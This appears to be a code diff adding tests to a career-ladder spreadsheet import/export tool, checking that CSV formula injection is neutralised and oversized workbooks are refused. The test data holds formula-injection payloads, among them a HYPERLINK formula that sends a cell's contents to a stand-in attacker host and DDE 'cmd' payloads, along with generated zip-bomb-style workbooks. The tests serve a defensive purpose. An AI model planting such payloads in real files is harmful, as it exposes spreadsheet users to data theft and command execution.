@@ -13,6 +13,7 @@ import runpy
 import shlex
 import subprocess
 import sys
+import zipfile
 from collections.abc import Callable
 from pathlib import Path
 from typing import Any
@@ -29,6 +30,7 @@ from pmframework.cli import main
 from pmframework.model import Ladder
 from pmframework.resources import builtin_names
 from pmframework.sheets.exporter import csv_bytes, export_ladder, track_table
+from pmframework.sheets.grid import neutralize_formula, restore_formula
 from pmframework.sheets.importer import (
     AREA_HEADERS,
     COMPETENCY_HEADERS,
@@ -830,3 +832,219 @@ def test_csv_import_export_import_is_stable(grid: list[list[str]]) -> None:
 def test_help_stays_fast_without_openpyxl() -> None:
     code = "import sys, pmframework.cli; sys.exit('openpyxl' in sys.modules)"
     assert subprocess.run([sys.executable, "-c", code], check=False).returncode == 0
+
+
+# --- formulas in CSV ---------------------------------------------------------------------------
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?"&A1,"Click for the ladder")',
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "- a bullet",
+    "'=already quoted",
+]
+
+
+@pytest.mark.parametrize("text", FORMULAS)
+def test_csv_export_neutralises_formulas_and_import_restores_them(
+    run_cli: RunCli, tmp_path: Path, text: str
+) -> None:
+    data = yaml.safe_load(Path(ACME).read_text(encoding="utf-8"))
+    data["areas"][0]["name"] = text
+    level = data["tracks"][0]["levels"][0]
+    level["expectations"]["prioritization"]["criteria"] = [text]
+    ladder = tmp_path / "ladder.yaml"
+    ladder.write_text(yaml.safe_dump(data, allow_unicode=True), encoding="utf-8")
+    sheet = tmp_path / "ladder.csv"
+    assert run_cli("export", str(ladder), "-o", str(sheet), "--track", "ic").exit_code == 0
+    cells = [c for row in csv.reader(io.StringIO(sheet.read_text("utf-8-sig"))) for c in row]
+    assert "'" + text in cells
+    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    back = import_sheet(str(sheet)).ladder
+    assert back.areas[0].name == text
+    assert back.levels[0].expectations["prioritization"].criteria[0].text == text
+
+
+@given(st.text(max_size=12))
+def test_neutralising_a_cell_is_undone_exactly(text: str) -> None:
+    neutral = neutralize_formula(text)
+    assert neutral[:1] not in ("=", "+", "-", "@", "\t", "\r")
+    assert restore_formula(neutral) == text
+
+
+# --- sheets past the limits, and cells that cannot be read ------------------------------------
+
+
+def refused(run_cli: RunCli, sheet: Path) -> str:
+    """The one error line of importing ``sheet``; nothing written."""
+    out = sheet.parent / "out.yaml"
+    result = run_cli("import", str(sheet), "-o", str(out))
+    assert result.exit_code == 1, result.stdout
+    assert result.stderr.count("\n") == 1, result.stderr
+    assert "Traceback" not in result.stderr
+    assert not out.exists()
+    return result.stderr.removeprefix("pmframework: error: ").rstrip("\n")
+
+
+def workbook_with_rows(path: Path, rows: str, dimension: str | None = None) -> None:
+    """A workbook whose one sheet, 'Ladder', holds the XML ``rows`` (highly compressible)."""
+    extent = f'<dimension ref="{dimension}"/>' if dimension else ""
+    sheet_xml = f'<worksheet xmlns="{SHEET_NS}">{extent}<sheetData>{rows}</sheetData></worksheet>'
+    workbook = openpyxl.Workbook()
+    workbook.active.title = "Ladder"
+    workbook.active["A1"] = "Competency"
+    buffer = io.BytesIO()
+    workbook.save(buffer)
+    with zipfile.ZipFile(buffer) as source, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as out:
+        for info in source.infolist():
+            part = sheet_xml.encode() if info.filename.endswith("sheet1.xml") else source.read(info)
+            out.writestr(info.filename, part)
+
+
+SHEET_NS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
+TEXT_CELL = '<c t="inlineStr"><is><t>x</t></is></c>'
+
+
+def test_a_workbook_that_inflates_to_many_rows_is_refused_by_its_declared_extent(
+    run_cli: RunCli, tmp_path: Path
+) -> None:
+    rows = f"<row>{TEXT_CELL * 36}</row>" * 12_000  # 16 MB of XML in a zip of a few hundred KB
+    path = tmp_path / "bomb.xlsx"
+    workbook_with_rows(path, rows, "A1:AJ12000")
+    assert path.stat().st_size < 500_000
+    # The message names the declared extent: no cell was read to find it out.
+    assert refused(run_cli, path) == (
+        f"{path}: sheet 'Ladder' declares that its cells span A1:AJ12000: more than 10,000 "
+        "rows; is this a ladder? (delete the rows past the ladder)"
+    )
+
+
+def test_a_workbook_that_hides_its_extent_is_refused_as_its_cells_are_read(
+    run_cli: RunCli, tmp_path: Path
+) -> None:
+    rows = f"<row>{TEXT_CELL * 36}</row>" * 12_000
+    path = tmp_path / "bomb.xlsx"
+    workbook_with_rows(path, rows)
+    # Refused at the first cell past a limit, not after reading all 432,000.
+    assert refused(run_cli, path) == (
+        f"{path}:139:33: sheet 'Ladder', cell AG139: more than 5,000 cells with text; "
+        "is this a ladder?"
+    )
+
+
+def test_a_sheet_of_empty_elements_is_refused(run_cli: RunCli, tmp_path: Path) -> None:
+    path = tmp_path / "rows.xlsx"
+    rows = "<row/>" * 600_000
+    workbook_with_rows(path, rows)
+    assert refused(run_cli, path) == (
+        f"{path}: sheet 'Ladder' is more than 500,000 XML elements; is this a ladder?"
+    )
+
+
+def test_a_csv_of_millions_of_cells_is_refused(run_cli: RunCli, tmp_path: Path) -> None:
+    path = tmp_path / "cells.csv"
+    path.write_bytes(b"a," * (5 * 1024 * 1024))  # 10 MiB, one line
+    assert refused(run_cli, path) == f"{path}:1:1: more than 100,000 cells; is this a ladder?"
+    path.write_bytes(b"a,\n" * 20_000)
+    assert refused(run_cli, path) == (
+        f"{path}:5001:1: sheet 'cells', cell A5001: more than 5,000 cells with text; "
+        "is this a ladder?"
+    )
+
+
+@pytest.mark.parametrize("length", [100_001, 200_000])  # below and past the CSV reader's limit
+def test_an_over_long_csv_cell_is_reported_at_its_cell(
+    run_cli: RunCli, tmp_path: Path, length: int
+) -> None:
+    path = tmp_path / "long.csv"
+    path.write_text(
+        f'Competency,Junior,Senior\nStrategy,Knows it.,Sets it.\nData,Reads it.,"{"x" * length}"\n',
+        encoding="utf-8",
+    )
+    message = refused(run_cli, path)
+    assert message.startswith(f"{path}:3:3: sheet 'long', cell C3: more than 100,000 characters"), (
+        message
+    )
+
+
+def test_an_over_long_xlsx_cell_is_reported_at_its_cell(run_cli: RunCli, tmp_path: Path) -> None:
+    # Excel keeps a cell to 32,767 characters (openpyxl's writer too); others may not.
+    def cell(ref: str, text: str) -> str:
+        return f'<c r="{ref}" t="inlineStr"><is><t>{text}</t></is></c>'
+
+    rows = "".join(
+        f'<row r="{n}">{cell(f"A{n}", "Skill")}{cell(f"B{n}", "x" * (100_001 if n == 7 else 9))}'
+        "</row>"
+        for n in range(2, 9)
+    )
+    header = f'<row r="1">{cell("A1", "Competency")}{cell("B1", "Junior")}</row>'
+    path = tmp_path / "book.xlsx"
+    workbook_with_rows(path, header + rows)
+    assert refused(run_cli, path) == (
+        f"{path}:7:2: sheet 'Ladder', cell B7: more than 100,000 characters (100,001); "
+        "a ladder's statement is a paragraph or a few"
+    )
+
+
+@pytest.mark.parametrize(
+    ("text", "where", "problem"),
+    [
+        (
+            'Competency,Junior,Senior\nStrategy,"Knows it.,Sets it.\nData,Reads it.,Owns it.\n',
+            "4:10",
+            "is never closed",
+        ),
+        (
+            'Competency,Junior,Senior\nStrategy,"Knows it.,Sets it.\nData,"Reads" it.,Owns it.\n',
+            "4:10",
+            "is closed before the end of its cell",
+        ),
+    ],
+)
+def test_an_unterminated_quote_is_an_error_where_it_opened(
+    run_cli: RunCli, tmp_path: Path, text: str, where: str, problem: str
+) -> None:
+    path = tmp_path / "quote.csv"
+    # A first line, so that the record and the line numbers differ from the start.
+    path.write_text('"Product ladder\n2024"\n' + text, encoding="utf-8")
+    assert refused(run_cli, path) == (
+        f"{path}:{where}: the quote that opens this cell {problem}, so the cell would run on "
+        'into the next ones; close it (a quote inside a quoted cell is written twice: "")'
+    )
+
+
+def test_a_sheet_of_too_many_statements_is_refused(run_cli: RunCli, tmp_path: Path) -> None:
+    path = tmp_path / "many.csv"
+    rows = [["Competency", "Junior", "Senior"]]
+    rows += [[f"Skill {n}", "Knows.\n\n" * 300, "Sets."] for n in range(1, 20)]
+    stream = io.StringIO(newline="")
+    csv.writer(stream).writerows(rows)
+    path.write_text(stream.getvalue(), encoding="utf-8")
+    assert refused(run_cli, path) == (
+        f"{path}:18:2: sheet 'many', cell B18: more than 5,000 statements (paragraphs) up to "
+        "here; is this a ladder?"
+    )
+
+
+def test_a_workbook_of_too_many_shared_texts_is_refused(run_cli: RunCli, tmp_path: Path) -> None:
+    # The texts of cells are kept in one table for the whole workbook, read before any sheet.
+    path = tmp_path / "texts.xlsx"
+    workbook_with_rows(path, '<row r="1"><c r="A1" t="s"><v>0</v></c></row>')
+    with zipfile.ZipFile(path) as source:
+        parts = {info.filename: source.read(info) for info in source.infolist()}
+    parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(
+        b"</Types>",
+        b'<Override PartName="/xl/sharedStrings.xml" ContentType="application/'
+        b'vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/></Types>',
+    )
+    parts["xl/sharedStrings.xml"] = (
+        f'<sst xmlns="{SHEET_NS}">' + "<si><t>x</t></si>" * 100_001 + "</sst>"
+    ).encode()
+    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as out:
+        for name, part in parts.items():
+            out.writestr(name, part)
+    assert refused(run_cli, path) == (
+        f"{path}: the workbook's table of texts is more than 100,000 texts or 500,000 XML "
+        "elements; is this a ladder?"
+    )
